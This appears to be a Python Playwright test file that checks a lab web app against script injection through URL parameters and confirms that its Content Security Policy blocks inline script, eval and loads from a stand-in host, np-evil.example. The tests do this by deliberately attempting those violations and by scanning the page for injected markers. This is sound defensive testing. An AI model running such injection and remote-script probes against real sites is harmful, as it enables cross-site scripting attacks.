"""What strangers write into an address, seen by a browser: nothing of it becomes a part of the page, and none
of it runs; and the policy that the server sends is obeyed."""

from urllib.parse import quote

import pytest
from playwright.sync_api import Browser, Dialog, Page, expect

from tests.apps.test_doors import MARKED, marked_addresses, panel_serving
from tests.conftest import watch
from tests.helpers import new_context, open_lab, step

# What has come into the page, in shadow roots too.
INJECTED = """() => {
  const all = (root) => [...root.querySelectorAll("*")].flatMap((one) =>
    [one, ...(one.shadowRoot ? all(one.shadowRoot) : [])]);
  const strange = (one) => one.localName === "np-mark"
    || (one.localName === "script" && one.textContent.includes("np-mark"))
    || one.getAttributeNames().some((name) => name.startsWith("on"));
  return all(document).filter(strange).map((one) => one.outerHTML.slice(0, 200));
}"""

# Does what the policy forbids, and returns what was refused.
FORBIDDEN = """async () => {
  const refused = [], place = "https://np-evil.example/";
  addEventListener("securitypolicyviolation", (event) =>
    refused.push(`${event.effectiveDirective} ${event.blockedURI}`));
  const put = (tag, values) => {
    const element = Object.assign(document.createElement(tag), values);
    document.body.append(element);
    return new Promise((done) => { element.onload = element.onerror = done; });
  };
  put("script", { textContent: "window.ran = 1" });
  document.body.setAttribute("onclick", "window.ran = 1");
  document.body.click();
  await put("script", { src: `${place}x.js` });
  await put("img", { src: `${place}x.png` });
  await fetch(place).catch(() => {});
  const module = new Blob(["try { (0, eval)('window.ran = 1') } catch {}"]);
  await put("script", { src: URL.createObjectURL(module) });
  const late = performance.now() + 60_000, last = "script-src eval"; // it comes from a script of its own
  while (!refused.some((one) => one.startsWith(last)) && performance.now() < late)
    await new Promise(requestAnimationFrame);
  return [...refused, `ran ${window.ran}`].sort();
}"""


def watch_dialogs(page: Page) -> list[str]:
    """What has asked for attention; nothing may."""
    found: list[str] = []

    def note(dialog: Dialog) -> None:
        found.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", note)
    return found


def strange_address(page: str) -> str:
    """One in which a stranger has written into every parameter."""
    return next(marked_addresses(page)).replace("&embed=", "&without=")


def reads_it_and_does_nothing(page: Page, dialogs: list[str]) -> None:
    """Where such an address has been opened (tests/site asks it too)."""
    expect(page.get_by_text("theme is auto, light or dark, not “--></script>")).to_be_visible()
    for tab in ("Numbers", "Code", "Diagnosis", "Challenges", "What is going on"):
        page.get_by_role("tab", name=tab).click()
        assert page.evaluate(INJECTED) == []
    page.get_by_role("button", name="Share").click()
    expect(page.get_by_role("dialog", name="Share")).to_be_visible()
    page.get_by_label("Seed").fill(MARKED)
    page.get_by_label("Seed").press("Enter")
    expect(page.get_by_text("seed is a whole number").first).to_be_visible()
    assert page.evaluate(INJECTED) == []
    assert dialogs == []


@pytest.mark.parametrize(
    "lab", ["circuit", "classifier", "spam"]
)  # whose settings are texts, tables and messages
def test_what_a_stranger_wrote_is_read_and_does_nothing(page: Page, lab: str) -> None:
    dialogs = watch_dialogs(page)
    open_lab(page, strange_address(f"/{lab}"))
    reads_it_and_does_nothing(page, dialogs)


def test_the_same_in_a_frame_and_with_orders_for_bokeh(page: Page) -> None:
    dialogs = watch_dialogs(page)
    first, twice, *others = marked_addresses("/backprop")
    for address in (
        f"{first}&embed=1#w={quote(MARKED)}",
        twice,
        next(one for one in others if "np-evil" in one),
    ):
        page.goto(address)
        expect(page.get_by_role("status")).to_contain_text("step 0")
        assert page.evaluate(INJECTED) == []
    assert dialogs == []


def test_the_policy_is_obeyed(browser: Browser, server: str) -> None:
    """The page is watched by nobody, as it does on purpose what it may not."""
    context = new_context(browser, base_url=server)
    page = context.new_page()
    page.goto("/circuit")
    expect(page.get_by_role("status")).to_contain_text("step 0")
    refused = page.evaluate(FORBIDDEN)
    context.close()
    assert refused == [
        "connect-src https://np-evil.example/", "img-src https://np-evil.example/x.png", "ran undefined",
        "script-src eval", "script-src-attr inline", "script-src-elem https://np-evil.example/x.js",
        "script-src-elem inline",
    ]  # fmt: skip


def test_a_page_that_says_its_policy_by_itself_works(
    browser: Browser, tmp_path_factory: pytest.TempPathFactory
) -> None:
    """As under `panel serve`, which sends no policy."""
    problems: list[str] = []
    with panel_serving(tmp_path_factory.mktemp("panel")) as (ask, _):
        page = browser.new_page(base_url=f"http://127.0.0.1:{ask.port}")
        watch(page, f"127.0.0.1:{ask.port}", problems)
        open_lab(page, "/backprop")
        step(page)
        assert problems == []
        assert "script-src-attr inline" in page.evaluate(FORBIDDEN)
        page.close()
